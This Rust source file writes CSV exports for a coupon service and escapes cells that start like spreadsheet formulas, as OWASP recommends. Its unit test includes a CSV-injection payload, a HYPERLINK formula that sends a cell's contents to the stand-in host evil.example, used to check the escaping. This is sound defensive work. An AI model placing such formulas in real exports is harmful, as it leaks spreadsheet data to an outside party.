//! CSV as coupond writes it.
//!
//! Every file coupond writes (the reconciliation, a template's holders, a batch's codes) is
//! built with [`CsvWriter`], so every cell of text passes [`field`], which keeps a
//! spreadsheet from reading it as a formula.
//!
//! Text cells (titles, user ids, codes, order ids, timestamps) are neutralised as OWASP
//! recommends: a cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a
//! leading `'`, so a spreadsheet shows it as text. Number cells ([`CsvWriter::number`]) are
//! integers coupond formats itself, so a negative one (`-500`, a net discount) stays a number.

use std::borrow::Cow;

/// The first characters that make a spreadsheet read a cell as a formula (or, for the tab and
/// the carriage return, that some spreadsheets skip before reading the rest as one).
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A cell of text as CSV: with a leading `'` when it starts like a formula, then in double
/// quotes (doubled inside) when it holds a comma, a double quote or a line break.
pub fn field(s: &str) -> Cow<'_, str> {
    let neutral: Cow<'_, str> = if s.starts_with(FORMULA_START) {
        Cow::Owned(format!("'{s}"))
    } else {
        Cow::Borrowed(s)
    };
    if neutral.contains([',', '"', '\n', '\r']) {
        Cow::Owned(format!("\"{}\"", neutral.replace('"', "\"\"")))
    } else {
        neutral
    }
}

/// CSV text built line by line: cells are separated by commas, lines end with `\n`.
#[derive(Debug, Default)]
pub struct CsvWriter {
    text: String,
    /// Whether the current line has a cell yet (the next one needs a comma first).
    in_line: bool,
}

impl CsvWriter {
    /// An empty file (for a page that continues one begun elsewhere).
    pub fn new() -> Self {
        Self::default()
    }

    /// A file starting with the header line `names`.
    pub fn with_header(names: &[&str]) -> Self {
        let mut w = Self::new();
        for name in names {
            w.text(name);
        }
        w.end_line();
        w
    }

    /// Appends a cell of text, neutralised and quoted by [`field`].
    pub fn text(&mut self, s: &str) -> &mut Self {
        self.separate();
        self.text.push_str(&field(s));
        self
    }

    /// Appends a cell of text, empty for `None`.
    pub fn optional(&mut self, s: Option<&str>) -> &mut Self {
        self.text(s.unwrap_or_default())
    }

    /// Appends a number cell: an integer coupond computed, written as a number even when
    /// negative.
    pub fn number(&mut self, n: i64) -> &mut Self {
        self.separate();
        self.text.push_str(&n.to_string());
        self
    }

    /// Appends a number cell, empty for `None`.
    pub fn optional_number(&mut self, n: Option<i64>) -> &mut Self {
        match n {
            Some(n) => self.number(n),
            None => self.text(""),
        }
    }

    /// Ends the current line.
    pub fn end_line(&mut self) -> &mut Self {
        self.text.push('\n');
        self.in_line = false;
        self
    }

    /// The text written.
    pub fn finish(self) -> String {
        self.text
    }

    fn separate(&mut self) {
        if self.in_line {
            self.text.push(',');
        }
        self.in_line = true;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_that_start_like_formulas_are_text() {
        let title = r#"=HYPERLINK("http://evil.example/?d="&B3,"Open report")"#;
        assert_eq!(
            field(title),
            r#""'=HYPERLINK(""http://evil.example/?d=""&B3,""Open report"")""#
        );
        for (cell, written) in [
            ("+1+2", "'+1+2"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "\"'\r=1\""),
            ("=1,2", "\"'=1,2\""),
        ] {
            assert_eq!(field(cell), written, "{cell:?}");
        }
    }

    #[test]
    fn other_cells_are_kept_and_quoted_only_when_needed() {
        for (cell, written) in [
            ("10% off", "10% off"),
            ("a=b", "a=b"),
            ("", ""),
            ("2024-01-01T00:00:00Z", "2024-01-01T00:00:00Z"),
            ("a,b", "\"a,b\""),
            ("say \"hi\"", "\"say \"\"hi\"\"\""),
            ("two\nlines", "\"two\nlines\""),
        ] {
            assert_eq!(field(cell), written, "{cell:?}");
        }
    }

    #[test]
    fn a_writer_neutralises_text_and_keeps_numbers() {
        let mut w = CsvWriter::with_header(&["title", "net"]);
        w.text("=1+1").number(-500).end_line();
        w.optional(None).optional_number(Some(7)).end_line();
        w.optional(Some("-x")).optional_number(None).end_line();
        assert_eq!(w.finish(), "title,net\n'=1+1,-500\n,7\n'-x,\n");
    }
}
